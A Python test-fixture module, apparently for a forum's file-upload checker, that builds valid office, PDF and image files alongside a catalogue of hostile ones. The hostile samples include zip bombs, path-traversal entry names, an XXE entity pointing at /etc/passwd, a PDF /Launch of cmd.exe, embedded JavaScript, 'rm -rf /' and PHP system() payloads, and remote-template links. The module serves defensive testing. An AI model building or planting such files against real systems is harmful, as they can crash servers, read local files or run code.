"""Files to judge, each made here from scratch: the good ones, and what goes wrong with them.

`GOOD` and `BAD` are tables of makers, so that a test says which file it means by its name. To see them with
another program: ``python -m tests.forum.bad_files FOLDER`` writes them all.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path

MIB = 2**20
OOXML = "application/vnd.openxmlformats-officedocument"
ODF = "application/vnd.oasis.opendocument"
MAIN_PARTS = {
    "docx": ("word/document.xml", f"{OOXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OOXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OOXML}.presentationml.presentation.main+xml"),
}
ODF_TYPES = {"odt": f"{ODF}.text", "ods": f"{ODF}.spreadsheet", "odp": f"{ODF}.presentation"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# Archives


def packed(parts: Mapping[str, bytes | str], stored: tuple[str, ...] = ()) -> bytes:
    """A ZIP archive as office programs write it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            info = zipfile.ZipInfo(name, (2021, 12, 7, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(info, part)
    return buffer.getvalue()


def local(name: bytes, data: bytes, *, flags: int = 0, method: int = 8, crc: int = 0, size: int = 0) -> bytes:
    return (
        struct.pack("<4s5H3L2H", b"PK\3\4", 20, flags, method, 0, 33, crc, len(data), size, len(name), 0) + name + data
    )


def central(
    name: bytes, at: int, packed_bytes: int, *, flags: int = 0, method: int = 8, crc: int = 0, size: int = 0
) -> bytes:
    fields = (20, 20, flags, method, 0, 33, crc, packed_bytes, size, len(name), 0, 0, 0, 0, 0, at)
    return struct.pack("<4s6H3L5H2L", b"PK\1\2", *fields) + name


def end(count: int, directory: bytes, at: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), at, 0)


def deflated(data: bytes) -> bytes:
    compress = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compress.compress(data) + compress.flush()


@cache
def zeros(mib: int) -> bytes:
    """A raw deflate stream of so many MiB of zeros (1 KiB for each), made without ever holding them."""
    compress = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compress.compress(bytes(MIB)) + compress.flush(zlib.Z_FULL_FLUSH)
    return block * mib + deflated(b"")


def one_entry(data: bytes, **fields: int) -> bytes:
    first, name = local(b"word/media/a.emf", data, **fields), b"word/media/a.emf"
    directory = central(name, 0, len(data), **fields)
    return first + directory + end(1, directory, len(first))


def bomb(*, declared_bytes: int) -> bytes:
    """Some 10 MiB that unpack to 10 GiB, whatever is declared."""
    return one_entry(zeros(10_000), size=declared_bytes)


def overlapping() -> bytes:
    """Many names for the same bytes (D. Fifield, A better zip bomb, 2019)."""
    text = bytes(range(256)) * 4
    data, fields = deflated(text), {"crc": zlib.crc32(text), "size": len(text)}
    first = local(b"a0", data, **fields)
    directory = b"".join(central(b"a%d" % n, 0, len(data), **fields) for n in range(10))
    return first + directory + end(10, directory, len(first))


def in_front() -> bytes:
    """A whole archive whose offsets allow for what stands in front of it."""
    data = deflated(b"")
    front, first = b"PK\3\4 something else ", local(b"a", data)
    directory = central(b"a", len(front), len(data))
    return front + first + directory + end(1, directory, len(front + first))


def hidden_between() -> bytes:
    """Bytes between the last entry and the directory, of which nothing in the archive tells."""
    data = deflated(b"")
    first = local(b"a", data) + b"hidden"
    directory = central(b"a", 0, len(data))
    return first + directory + end(1, directory, len(first))


def two_named(first: str, second: str) -> bytes:
    parts = ooxml_parts("docx")
    parts |= {"x" * len(first): b"1", "y" * len(second): b"2"}
    content = packed(parts)
    return content.replace(b"x" * len(first), first.encode()).replace(b"y" * len(second), second.encode())


# Office files


def ooxml_parts(extension: str, types: str = "") -> dict[str, bytes | str]:
    main, media_type = MAIN_PARTS[extension]
    return {
        "[Content_Types].xml": f'{XML}<Types><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{media_type}"/>{types}</Types>',
        "_rels/.rels": relationships(f"{RELATIONSHIPS}/officeDocument", main, external=False),
        main: XML + "<root>РАТС ШОС, 7–8 December 2021</root>" * 20,
    }


def relationships(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'{XML}<Relationships><Relationship Id="r1" Type="{kind}" Target="{target}"{mode}/></Relationships>'


def ooxml(extension: str, more: Mapping[str, bytes | str] | None = None, types: str = "") -> bytes:
    return packed(ooxml_parts(extension, types) | dict(more or {}))


def odf(extension: str, more: Mapping[str, bytes | str] | None = None, manifest: str = "") -> bytes:
    parts = {
        "mimetype": ODF_TYPES[extension],
        "content.xml": XML + "<office:document-content/>",
        "Configurations2/accelerator/": "",
        "META-INF/manifest.xml": f"{XML}<manifest:manifest>{manifest}</manifest:manifest>",
    }
    return packed(parts | dict(more or {}), stored=("mimetype",))


# PDF


def pdf(objects: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + objects
    return body + b"xref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(body)


def pdf_stream(dictionary: bytes, data: bytes) -> bytes:
    return b"3 0 obj\n<< %s /Length %d >>\nstream\r\n%s\r\nendstream\nendobj\n" % (
        dictionary,
        len(data),
        data,
    )


def pdf_and_zip() -> bytes:
    """A PDF to one reader, and to another an archive whose comment is the PDF's end."""
    content = pdf(packed({"a": b"b"}))
    comment_at = content.index(b"PK\5\6") + 20
    comment = content[comment_at + 2 :]
    return content[:comment_at] + struct.pack("<H", len(comment)) + comment


def object_stream(objects: bytes) -> bytes:
    data = zlib.compress(b"4 0 5 30 " + objects)
    return pdf_stream(b"/Type /ObjStm /N 2 /First 9 /Filter /FlateDecode", data)


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


# Images


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def png(*, width: int = 2, height: int = 2, behind: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">2L5B", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(6))) + chunk(b"IEND", b"") + behind


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg(*, height: int = 8, behind: bytes = b"") -> bytes:
    frame = segment(0xC0, struct.pack(">B2HB", 8, height, 8, 1) + b"\x01\x11\x00")
    tables = segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0") + segment(0xDB, bytes(65)) + segment(0xC4, bytes(17))
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
    return b"\xff\xd8" + tables + b"\xff" + frame + scan + b"\xff\xd9" + behind


GOOD: Mapping[str, Callable[[], bytes]] = {
    "note.pdf": pdf,
    "page.PDF": lambda: pdf(pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"0 0 m /F1 12 Tf (JS) Tj"))),
    "objects.pdf": lambda: pdf(object_stream(b"<< /Type /Page >> << /Type /Font >>")),
    "hall.png": png,
    "hall.jpg": jpeg,
    "hall.jpeg": jpeg,
    "programme.docx": lambda: ooxml("docx"),
    "chart.docx": lambda: ooxml("docx", {"word/embeddings/Sheet1.xlsx": ooxml("xlsx")}),
    "link.docx": lambda: ooxml(
        "docx",
        {
            "word/_rels/document.xml.rels": relationships(f"{RELATIONSHIPS}/hyperlink", "https://ecrats.org/"),
            "word/_rels/settings.xml.rels": relationships(
                f"{RELATIONSHIPS}/attachedTemplate", "file:///C:\\Templates\\Letter.dotx"
            ),
        },
    ),
    "participants.xlsx": lambda: ooxml("xlsx"),
    "slides.pptx": lambda: ooxml("pptx"),
    "notes.odt": lambda: odf("odt"),
    "notes.ods": lambda: odf("ods"),
    "notes.odp": lambda: odf("odp"),
    "دعوت نامہ.txt": "شرکاء کی فہرست\r\n".encode,
    "from Excel.csv": "\ufeffState;reply\r\nPakistan;confirmed\r\n".encode,
}

BAD: Mapping[str, Callable[[], bytes]] = {
    # What is never taken, under any name.
    "html.txt": lambda: b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>",
    "tag.csv": lambda: b"<p>hello",
    "svg.txt": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "xml.txt": lambda: b"<?xml version='1.0'?><a/>",
    "script.txt": lambda: b"#!/bin/sh\nrm -rf /\n",
    "php.txt": lambda: b"<?php system('id');",
    "program.txt": lambda: b"MZ" + bytes(100),
    "elf.pdf": lambda: b"\x7fELF" + bytes(100),
    "old.docx": lambda: OLE,
    "rtf.txt": lambda: b"{\\rtf1 hello}",
    "utf16.txt": lambda: "hello".encode("utf-16"),
    "latin.txt": lambda: "Café".encode("latin-1"),
    "zero.csv": lambda: b"a,\0b\n",
    "terminal.txt": lambda: b"\x1b]0;owned\x07",
    # What is not what its name says.
    "png.pdf": png,
    "pdf.png": pdf,
    "text.pdf": lambda: b"hello",
    "docx.xlsx": lambda: ooxml("docx"),
    "odt.docx": lambda: odf("odt"),
    "docx.odt": lambda: ooxml("docx"),
    "archive.docx": lambda: packed({"a.txt": b"hello"}),
    "both.docx": lambda: odf("odt", ooxml_parts("docx")),
    "twice.docx": lambda: ooxml("docx", types=f'<Override ContentType="{MAIN_PARTS["xlsx"][1]}"/>'),
    # What acts.
    "macro.docx": lambda: ooxml("docx", {"word/vbaProject.bin": b"x"}),
    "renamed_macro.docx": lambda: ooxml("docx", {"word/other.bin": OLE}),
    "docm.docx": lambda: packed(
        ooxml_parts("docx")
        | {"[Content_Types].xml": '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'}
    ),
    "hidden_macro.docx": lambda: ooxml(
        "docx", types='<Default ContentType="application/vnd.ms-office.&#118;baProject"/>'
    ),
    "excel4.xlsx": lambda: ooxml("xlsx", {"xl/macrosheets/sheet1.xml": XML + "<x/>"}),
    "control.docx": lambda: ooxml("docx", {"word/activeX/activeX1.xml": XML + "<x/>"}),
    "basic.odt": lambda: odf("odt", {"Basic/Standard/Module1.xml": XML + "<x/>"}),
    "program_inside.docx": lambda: ooxml("docx", {"word/media/image1.png": b"MZ" + bytes(99)}),
    "html_inside.docx": lambda: ooxml("docx", {"word/chunk.htm": b"<html><script>1</script></html>"}),
    "template.docx": lambda: ooxml(
        "docx",
        {
            "word/_rels/settings.xml.rels": relationships(
                f"{RELATIONSHIPS}/attachedTemplate", "https://a.example/t.dotm"
            )
        },
    ),
    "share.docx": lambda: ooxml(
        "docx",
        {"word/_rels/d.xml.rels": relationships(f"{RELATIONSHIPS}/image", "file://///a.example/i.png")},
    ),
    "beacon.docx": lambda: ooxml(
        "docx",
        {
            "word/_rels/d.xml.rels": relationships(f"{RELATIONSHIPS}/image", "&#104;ttp://a.example/&gt;").replace(
                "r1", "a>b"
            )
        },
    ),
    "entities.docx": lambda: ooxml("docx", {"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "late_entities.docx": lambda: ooxml(
        "docx", {"word/a.dat": b"x" * (2**17 - 4) + b'<!ENTITY b SYSTEM "file:///etc/passwd">'}
    ),
    "utf16_entities.docx": lambda: ooxml("docx", {"word/a.xml": "\ufeff<!DOCTYPE a>".encode("utf-16-le")}),
    "utf7.docx": lambda: ooxml("docx", {"word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a>'}),
    "script.pdf": lambda: pdf(b"4 0 obj\n" + SCRIPT + b"\nendobj\n"),
    "escaped_script.pdf": lambda: pdf(b"4 0 obj\n<< /S /J#61va#53cript /#4a#53 (1) >>\nendobj\n"),
    "only_js.pdf": lambda: pdf(b"4 0 obj\n<< /JS 5 0 R >>\nendobj\n"),
    "false_stream.pdf": lambda: pdf(b"% stream\n" + SCRIPT + b"\n% endstream\n"),
    "packed_script.pdf": lambda: pdf(object_stream(SCRIPT + b" << >>")),
    "launch.pdf": lambda: pdf(b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
    "embedded.pdf": lambda: pdf(pdf_stream(b"/Type /EmbeddedFile", b"MZ")),
    "encrypted.pdf": lambda: pdf(b"trailer << /Encrypt 9 0 R >>\n"),
    # What is encrypted, hostile or ambiguous as an archive.
    "encrypted.odt": lambda: odf("odt", manifest="<manifest:encryption-data/>"),
    "encrypted.docx": lambda: one_entry(b"x" * 30, flags=1),
    "strange_method.docx": lambda: one_entry(b"x" * 30, method=12),
    "bomb.docx": lambda: bomb(declared_bytes=2**32 - 2),
    "lying_bomb.docx": lambda: bomb(declared_bytes=1_000),
    "patient_bomb.docx": lambda: bomb(declared_bytes=240 * MIB),
    "ratio_bomb.docx": lambda: ooxml("docx", {"word/a.xml": b"<a>" + b" " * 3 * MIB + b"</a>"}),
    "nested_bomb.docx": lambda: ooxml("docx", {"word/embeddings/a.xlsx": bomb(declared_bytes=200 * MIB)}),
    "many_entries.docx": lambda: packed({f"a{n}": b"" for n in range(10_001)}),
    "deep.docx": lambda: ooxml("docx", {"a.docx": ooxml("docx", {"b.docx": ooxml("docx")})}),
    "zip_inside.docx": lambda: ooxml("docx", {"a.bin": packed({"a.exe": b"x"})}),
    "macro_inside.docx": lambda: ooxml("docx", {"a.xlsx": ooxml("xlsx", {"xl/vbaProject.bin": OLE})}),
    "overlapping.docx": overlapping,
    "twice_named.docx": lambda: two_named("a/b.xml", "a/b.xml"),
    "twice_named_by_case.docx": lambda: two_named("a/b.xml", "A/B.XML"),
    "outside.docx": lambda: two_named("../../etc/x", "b"),
    "absolute.docx": lambda: two_named("/etc/passwd", "b"),
    "backslash.docx": lambda: two_named("..\\x", "b"),
    "drive.docx": lambda: two_named("C:/x", "b"),
    "nul_name.docx": lambda: two_named("a\0.xml", "b"),
    "in_front.docx": in_front,
    "hidden_between.docx": hidden_between,
    "in_front_of_zip.docx": lambda: ooxml("docx") + ooxml("docx"),
    "behind.docx": lambda: ooxml("docx") + b"x",
    "two_stories.docx": lambda: ooxml("docx").replace(b"word/document.xml", b"word/d0cument.xml", 1),
    "no_directory.docx": lambda: ooxml("docx")[:-100],
    "empty_archive.docx": lambda: end(0, b"", 0),
    # What is cut, damaged or two things at once.
    "empty.txt": lambda: b"",
    "cut.pdf": lambda: pdf()[:-8],
    "behind.pdf": lambda: pdf() + b"MZ",
    "in_front.pdf": lambda: b"\n" + pdf(),
    "zip.pdf": pdf_and_zip,
    "far_xref.pdf": lambda: pdf().replace(b"startxref\n", b"startxref\n9"),
    "cut.png": lambda: png()[:-12],
    "crc.png": lambda: png().replace(b"IDAT", b"IDAU"),
    "behind.png": lambda: png(behind=b"<script>"),
    "zip.png": lambda: png(behind=ooxml("docx")),
    "huge.png": lambda: png(width=2**31 - 1, height=2**31 - 1),
    "flat.png": lambda: png(width=0),
    "no_pixels.png": lambda: png()[:33] + chunk(b"IEND", b""),
    "cut.jpg": lambda: jpeg()[:-2],
    "cut_early.jpg": lambda: jpeg()[:30],
    "behind.jpg": lambda: jpeg(behind=b"<?php"),
    "flat.jpg": lambda: jpeg(height=0),
    "only_marks.jpg": lambda: b"\xff\xd8" + b"\xff" * 10_000,
}


def main(folder: Path) -> None:
    for name, maker in {**GOOD, **BAD}.items():
        (folder / name).write_bytes(maker())


if __name__ == "__main__":
    main(Path(sys.argv[1]))
